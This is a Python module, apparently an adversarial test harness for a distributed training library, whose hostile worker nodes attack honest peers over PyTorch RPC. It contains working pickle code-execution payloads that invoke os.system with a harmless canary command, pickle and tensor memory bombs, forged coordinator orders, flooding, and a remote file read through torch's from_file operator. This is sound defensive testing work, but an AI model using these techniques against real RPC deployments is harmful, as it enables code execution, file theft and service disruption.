"""Hostile nodes: attacks, named by `_target_`, that have a worker's process to themselves and send
what they like."""

import json
import os
import pickle
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import torch
from torch._C._distributed_rpc import _invoke_rpc_builtin
from torch.distributed import rpc
from torch.distributed.rpc import WorkerInfo, internal
from torch.distributed.rpc.api import _to_worker_info

from tdml.attacks import Attack, Context
from tdml.protocol.orders import Failure
from tdml.run import start_worker
from tdml.wire import endpoint, rpc_world
from tdml.wire.channel import _ANSWER, _ORDER, Answer, Order
from tdml.wire.codec import decode, encode
from tdml.wire.guard import NOTHING, Envelope

_FLOOD = 2_000
_RANKS = ("rank0", "rank1", "rank2")  # of the coordinator and the honest nodes
Sent = tuple[bytes, list[torch.Tensor]]


class Runs:
    """Unpickled, it calls a function."""

    def __init__(self, function: Callable, *arguments: object) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> tuple:
        return self._reduced


class Calls(Attack):
    """Does its work, and in round 2 calls everybody with whatever might run or break something.

    `folder`: where it writes what came of every attempt, `attempts.json`; if it ever has code run,
    that makes `canary` there. `secret`: a file that it tries to read from afar.
    """

    def __init__(self, folder: str, secret: str) -> None:
        self._folder, self._secret = Path(folder), secret
        self._heard: list[Sent] = []
        start_worker.form_rpc = self._form

    def _form(self, *arguments: Any) -> None:
        self._addresses = rpc_world.form_rpc(*arguments)

    def poison_labels(self, labels: torch.Tensor, context: Context) -> torch.Tensor:
        """Listen in round 1, attack in round 2."""
        if context.round == 1 and not self._heard:
            self._listen()
        found = self._folder / "attempts.json"
        if context.round == 2 and not found.exists():
            _meet(self._addresses)
            found.write_text(json.dumps({rank: self._assault(rank) for rank in _RANKS}))
        return labels

    def _listen(self) -> None:
        obey = endpoint._listener.obey

        def keep(header: bytes, tensors: Any, signature: str) -> Envelope:
            self._heard.append(_order(header, signature, tensors))
            return obey(header, tensors, signature)

        endpoint._listener.obey = keep

    def _assault(self, rank: str) -> dict[str, str]:
        attempts = self._code() | self._bombs() | self._orders()
        found = {
            name: _attempt(lambda sent=sent: _call(rank, sent)) for name, sent in attempts.items()
        }
        for number, sent in enumerate(self._heard[:20]):
            found[f"replay {number}"] = _attempt(lambda sent=sent: _call(rank, sent))
        found["flood"] = _attempt(lambda: _flood(rank))
        found["file"] = {_attempt(lambda: _read_file(rank, self._secret)) for _ in range(100)}.pop()
        return found

    def _code(self) -> dict[str, Sent]:
        touch = f"touch {self._folder / 'canary'}"
        return {
            "code as function": _pickled(internal.PythonUDF(os.system, (touch,), {})),
            "code as argument": _pickled(
                internal.PythonUDF(endpoint.obey, (Runs(os.system, touch), (), ""), {})
            ),
            "code as result": _pickled(Runs(os.system, touch)),
            "code as exception": _pickled(internal.RemoteException(touch, os.system)),
        }

    def _bombs(self) -> dict[str, Sent]:
        return {
            "deep": (b"\x80\x04" + b"]" * 10**6 + b"a" * (10**6 - 1) + b".", []),
            "10 GB": (b"\x80\x05\x96" + (10 * 2**30).to_bytes(8, "little") + b".", []),
            "memo": (b"\x80\x04Nr\xff\xff\xff\x7f.", []),
            "long": (bytes(20 * 2**20), []),
            "10 GB by a stride of 0": _order(b"", "", [torch.zeros(1).expand(2_500_000_000)]),
            "sparse": _order(b"", "", [torch.eye(3).to_sparse()]),
            "many tensors": _order(b"", "", [torch.ones(3)] * 1_000),
        }

    def _orders(self) -> dict[str, Sent]:
        """As if it were the coordinator."""
        listener = endpoint._listener
        stops = {
            name: encode(Order(listener._at, name, 10**6, "stop", b"\x91\x00", ()))[0]
            for name in ("r0.s0", "r1.s0")
        }
        found = {}
        for name, header in stops.items():
            found[f"unsigned, to {name}"] = _order(header, "")
            found[f"forged, to {name}"] = _order(header, listener._identity.sign(_ORDER + header))
        return found


class Answers(Attack):
    """Does its work, and in round 2 answers wrongly, in the way of its replica."""

    def __init__(self, folder: str, secret: str) -> None:
        self._touch = f"touch {Path(folder) / 'canary'}"

    def corrupt(self, update: torch.Tensor, context: Context) -> torch.Tensor:
        """From here on, the number of the replica says how it answers."""
        pickler, listener = internal._internal_rpc_pickler, endpoint._listener
        if context.round != 2:
            return update
        obey = listener.obey
        match context.replica:
            case 2:
                pickler.serialize = lambda _: _pickled(Runs(os.system, self._touch))
            case 3:
                pickler.serialize = lambda _: (
                    b"\x80\x04" + b"]" * 10**6,
                    [torch.zeros(1).expand(2_500_000_000)],
                )
            case 4:
                listener.obey = lambda *_: NOTHING
            case 5:
                listener._carry_out = lambda *_: ["something", "else"]
            case 6:
                listener._carry_out = lambda *_: Failure(
                    "r0.s0", "\x1b[2J" + "wiped " * 10**5, "x\n" * 10**6
                )
            case 7:
                strange = torch.ones(3).to(torch.float64)
                listener._carry_out = lambda *_: strange
            case 8:
                listener.obey = lambda *order: _for_another(obey(*order))
            case 9:
                carry_out, flood = (
                    listener._carry_out,
                    [f"\x1b[2J {number}" for number in range(10**5)],
                )
                listener._carry_out = lambda name, given: (
                    flood if name == "refused" else carry_out(name, given)
                )
            case 10:
                pickler.serialize = _shout
        return update


def _for_another(envelope: Envelope) -> Envelope:
    """The answer in the place of an honest node."""
    header, _ = encode(replace(decode(Answer, envelope.header, []), node="r0.s0"))
    return Envelope(header, envelope.tensors, endpoint._listener._identity.sign(_ANSWER + header))


def _shout(_: object) -> Sent:
    """torch sends the text of what is raised here, past the guard."""
    raise RuntimeError("\x1b[2J" + "A" * 10**7)


def _pickled(value: Any) -> Sent:
    return pickle.dumps(value), []


def _order(header: bytes, signature: str, tensors: Any = ()) -> Sent:
    return msgspec.msgpack.encode(["tdml order", header, signature]), list(tensors)


def _attempt(call: Callable[[], object]) -> str:
    try:
        return f"came back: {call()}"
    except Exception as error:
        return f"failed: {str(error)[:300]}"


class _Raw:
    """A pickler that sends bytes as they are."""

    def __init__(self, sent: Sent) -> None:
        self._sent = sent

    def serialize(self, _: object) -> Sent:
        """The bytes."""
        return self._sent


def _call(rank: str, sent: Sent) -> object:
    return _start_call(rank, sent).wait().envelope


def _start_call(rank: str, sent: Sent) -> torch.futures.Future:
    with rpc.api._use_rpc_pickler(
        _Raw(sent)
    ):  # of calls alone: answers still go out as they should
        return rpc.rpc_async(rank, endpoint.obey, timeout=20)


def _flood(rank: str) -> int:
    calls = [_start_call(rank, (os.urandom(50), [])) for _ in range(_FLOOD)]
    return len([call.wait() for call in calls])


def _read_file(rank: str, path: str) -> str:
    """By an operator of torch, which needs no pickle."""
    size = Path(path).stat().st_size
    operator = ("aten::from_file", 5.0, path, False, size)
    return bytes(
        _invoke_rpc_builtin(_to_worker_info(rank), *operator, dtype=torch.uint8).wait().tolist()
    ).hex()


def _meet(addresses: rpc_world.Addresses) -> None:
    """Learn the addresses of the others from the store: honest workers call nobody."""
    agent = rpc.api._get_current_rpc_agent()
    for rank, name in enumerate(_RANKS):
        rpc_world._tell(rank, addresses.told, addresses.known)
        agent._update_group_membership(WorkerInfo(name, rank), [], {}, True)
